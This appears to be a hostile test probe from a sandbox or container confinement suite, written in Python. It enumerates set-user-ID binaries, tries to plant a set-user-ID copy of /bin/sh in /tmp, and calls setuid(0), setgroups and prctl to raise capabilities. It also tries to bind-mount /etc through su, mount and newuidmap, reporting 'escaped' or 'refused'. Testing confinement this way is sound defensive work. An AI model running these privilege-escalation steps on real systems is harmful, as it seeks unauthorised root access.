# SPDX-License-Identifier: Apache-2.0
"""Hostile: gains privileges from set-user-ID programs, the host's and its own."""

import glob
import os
import shutil
import stat
import subprocess

from attack import attempt, libc, raw

found = [path for path in glob.glob("/usr/*bin/*") if os.stat(path).st_mode & stat.S_ISUID]
live = [path for path in found if not os.statvfs(path).f_flag & os.ST_NOSUID]
shutil.copy("/bin/sh", "/tmp/sh")
try:
    os.chmod("/tmp/sh", 0o4755)
except PermissionError:
    os.chmod("/tmp/sh", 0o755)
    print("refused a set-user-ID bit")
inside = subprocess.run(
    ["/tmp/sh", "-p", "-c", "grep -E '^(Uid|CapEff|NoNewPrivs)' /proc/self/status"], capture_output=True, text=True
).stdout.split()
print("live set-user-ID programs", live)
print("inside", *inside)
attempt("setuid", lambda: os.setuid(0))
attempt("setgroups", lambda: os.setgroups([0]))
attempt("ambient", lambda: raw(libc.prctl, 47, 2, 21, 0, 0))
attempt("securebits", lambda: raw(libc.prctl, 28, 0, 0, 0, 0))
for path in ("/usr/bin/newuidmap", "/usr/bin/su", "/usr/bin/mount"):
    if os.path.exists(path):
        done = subprocess.run([path, "--bind", "/etc", "/tmp"], capture_output=True, stdin=subprocess.DEVNULL)
        print("escaped" if done.returncode == 0 else "refused", path)
